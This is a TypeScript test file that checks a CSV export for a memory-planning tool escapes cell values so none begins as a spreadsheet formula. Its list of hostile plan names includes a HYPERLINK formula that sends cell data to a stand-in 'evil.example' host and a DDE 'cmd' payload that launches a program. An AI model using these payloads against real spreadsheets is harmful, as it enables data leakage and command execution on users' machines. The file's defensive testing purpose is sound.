/**
 * CSV injection (renderer/src/export/csv.ts, Note [CSV injection]): no cell of an exported timeline, comment lines
 * included, starts as a formula, whatever the plan's name holds; the name stays readable; numbers stay numbers.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parseGpuCatalog } from '../../engine/gpu/catalog.ts';
import { planGpu } from '../../engine/gpu/device.ts';
import { parsePlanText } from '../../engine/plan/parse.ts';
import { simulate } from '../../engine/train/simulate.ts';
import { csvField, timelineCsv } from '../../renderer/src/export/csv.ts';

const root = new URL('../../', import.meta.url);
const plan = parsePlanText(readFileSync(new URL('examples/mlp-fp16.plan.json', root), 'utf8'));
const catalog = parseGpuCatalog(JSON.parse(readFileSync(new URL('resources/gpus.json', root), 'utf8')));
const timeline = simulate(plan, { device: planGpu(plan, catalog) }).timeline;

/** OWASP's list: a cell starting with one of these is run as a formula by some spreadsheet. */
const FORMULA = /^[=+\-@\t\r]/;

/** The cells a spreadsheet makes of one line: split at commas, a field that starts with `"` quoted to its closing `"`. */
function cells(line: string): string[] {
  const out: string[] = [];
  let i = 0;
  for (;;) {
    let field = '';
    if (line[i] === '"') {
      i++;
      for (; i < line.length; i++) {
        if (line[i] === '"' && line[i + 1] === '"') (field += '"'), i++;
        else if (line[i] === '"') break;
        else field += line[i];
      }
      i++;
      while (i < line.length && line[i] !== ',') field += line[i++];
    } else {
      while (i < line.length && line[i] !== ',') field += line[i++];
    }
    out.push(field);
    if (i >= line.length) return out;
    i++;
  }
}

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  'GPT-2, =1+1',
  'GPT-2,"=1+1"',
  'GPT-2,  -1',
  'GPT-2,\t@x',
  'first line\n=1+1',
  'a | b, "quoted"',
];

describe('csvField', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+A1', "'+A1"],
    ['-A1', "'-A1"],
    ['@A1', "'@A1"],
    ['\tx', "'\tx"],
    ['=a,b', `"'=a,b"`],
    ['a,=b', '"a,=b"'],
    ['x"y', '"x""y"'],
    ['two\nlines', '"two\nlines"'],
    ['forward', 'forward'],
  ])('writes %j as %j', (text, written) => {
    expect(csvField(text)).toBe(written);
  });

  it('writes numbers as they are, negative ones too', () => {
    expect([csvField(-5), csvField(0), csvField(1234567890123)]).toEqual(['-5', '0', '1234567890123']);
  });
});

describe('a timeline exported under a hostile name', () => {
  it.each(HOSTILE)('has no cell that starts as a formula: %j', (title) => {
    const csv = timelineCsv(timeline, { title, kind: 'simulate' });
    const plain = timelineCsv(timeline, { title: 'plain', kind: 'simulate' });
    const lines = csv.split('\n');
    // The name adds no line: line breaks in it become spaces.
    expect(lines.length).toBe(plain.split('\n').length);
    for (const line of lines) for (const cell of cells(line)) expect(cell, `line ${JSON.stringify(line)}`).not.toMatch(FORMULA);
    // The name is still there to read: only a quote mark added before a piece that would run.
    expect(lines[0]!.replace(/,'/g, ',')).toBe(`# memplan timeline (simulate): ${title.replace(/[\r\n]+/g, ' ')}`);
  });

  it('would fail without the guard: the same parsing finds the formula in a raw line', () => {
    expect(cells('# memplan timeline (simulate): GPT-2, =1+1').some((cell) => FORMULA.test(cell.trimStart()))).toBe(true);
  });
});
